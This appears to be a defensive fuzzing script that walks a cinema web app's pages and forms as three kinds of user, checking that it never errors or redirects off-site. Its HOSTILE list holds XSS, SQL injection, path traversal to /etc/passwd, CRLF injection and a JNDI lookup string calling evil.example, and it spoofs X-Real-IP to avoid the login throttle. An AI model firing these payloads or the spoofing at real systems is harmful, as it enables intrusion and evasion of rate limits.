#!/usr/bin/env python3
"""Walks hostile strings through every page's path and query parameters and every form of the
web app, signed out, as a customer and as an admin (scripts/security.sh, item 12 of
docs/SECURITY.md). Every request must get a whole answer (never a dropped connection), never a
5xx, and a redirect only to a path of this site.

usage: hostile_walk.py BASE_URL   (the BFF, or the gateway with raised limits)
prints one line per problem, then a summary; exits 1 when there was any problem.
"""
import http.client
import sys
import urllib.parse

BASE = urllib.parse.urlsplit(sys.argv[1])
HOSTILE = [
    "", " ", "\x00", "%00", "\r\nX-Injected: 1", "\t/evil.example", "/\t/evil.example",
    "//evil.example", "/\\evil.example", "https://evil.example", "javascript:alert(1)",
    "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "' OR '1'='1' --",
    "../../../../etc/passwd", "%2e%2e%2f%2e%2e%2f", "${jndi:ldap://evil.example/x}", "{{7*7}}",
    "\u202egnp.exe", "😀" * 200, "A" * 20000, "-1", "99999999999999999999", "NaN", "1e309",
    "2026-02-30", "0000-00-00", "00000000-0000-0000-0000-000000000000", "\ufffd\ud7ff",
]
PAGES = ["/", "/search", "/cinemas", "/login", "/register", "/profile", "/bookings",
         "/notifications", "/admin", "/kiosk", "/box-office", "/check-in"]
WITH_ID = ["/movies/", "/showtimes/", "/cinemas/", "/bookings/", "/kiosk/", "/admin/movies/",
           "/admin/halls/", "/admin/cinemas/", "/admin/showtimes/"]
QUERY = {"/search": ["q", "genre", "city", "date"], "/login": ["next"], "/register": ["next"],
         "/admin": ["date"], "/cinemas": ["date"], "/box-office": ["showtime"],
         "/check-in": ["cinema"]}
FORMS = {
    "/login": ["username", "password", "next"],
    "/register": ["email", "username", "password", "full_name", "phone_number", "next"],
    "/profile": ["full_name", "phone_number"],
    "/admin/movies": ["slug", "title", "description", "duration_minutes", "genres", "language",
                      "release_date", "poster_url", "director", "cast", "status"],
    "/admin/cinemas": ["slug", "name", "address", "city", "time_zone"],
    "/admin/halls": ["cinema_id", "name", "layout", "blocked"],
    "/admin/showtimes": ["movie_id", "hall_id", "local_start", "format", "audio_language",
                         "price_standard"],
}

problems, requests = [], 0
# Each request as if from an address of its own (the BFF believes X-Real-IP from loopback), so
# that the login throttle, doing its job, does not turn the walk's sign-ins into 429s.
def address(n):
    return f"10.{(n >> 16) & 255}.{(n >> 8) & 255}.{n & 255}"


def send(method, path, body=None, cookie=None):
    global requests
    requests += 1
    connection = http.client.HTTPConnection(BASE.hostname, BASE.port, timeout=30)
    headers = {"Origin": f"{BASE.scheme}://{BASE.netloc}", "X-Real-IP": address(requests)}
    if cookie:
        headers["Cookie"] = cookie
    if body is not None:
        headers["Content-Type"] = "application/x-www-form-urlencoded"
    try:
        connection.request(method, path, body=body, headers=headers)
        response = connection.getresponse()
        response.read()
        return response
    except Exception as error:  # a dropped connection, a reset: the worst answer of all
        problems.append(f"{method} {path[:80]!r}: no answer ({error.__class__.__name__})")
        return None
    finally:
        connection.close()


def judge(method, path, response):
    if response is None:
        return
    location = response.getheader("Location") or ""
    if response.status >= 500:
        problems.append(f"{method} {path[:80]!r}: {response.status}")
    elif location and not (location.startswith("/") and not location.startswith("//")
                           and "\\" not in location):
        problems.append(f"{method} {path[:80]!r}: redirects off-site to {location[:80]!r}")


def sign_in(username):
    response = send("POST", "/login", urllib.parse.urlencode(
        {"username": username, "password": "marquee-demo", "next": "/"}))
    cookies = [value.split(";", 1)[0] for key, value in response.getheaders()
               if key.lower() == "set-cookie"]
    return "; ".join(cookies)


def quoted(value):
    return urllib.parse.quote(value, safe="")


sessions = {"signed out": None, "customer": sign_in("customer"), "admin": sign_in("admin")}
for who, cookie in sessions.items():
    for page in PAGES:
        judge("GET", page, send("GET", page, cookie=cookie))
    for value in HOSTILE:
        for prefix in WITH_ID:
            path = prefix + quoted(value)
            judge("GET", path, send("GET", path, cookie=cookie))
        for page, names in QUERY.items():
            path = page + "?" + "&".join(f"{name}={quoted(value)}" for name in names)
            judge("GET", path, send("GET", path, cookie=cookie))
        for form, fields in FORMS.items():
            if who == "signed out" and form != "/login" and form != "/register":
                continue
            if form == "/login" and who != "signed out":
                continue
            body = urllib.parse.urlencode({field: value for field in fields})
            judge("POST", form, send("POST", form, body, cookie=cookie))

for problem in problems[:40]:
    print(problem)
print(f"{requests} requests with {len(HOSTILE)} hostile strings: {len(problems)} problem(s)")
sys.exit(1 if problems else 0)
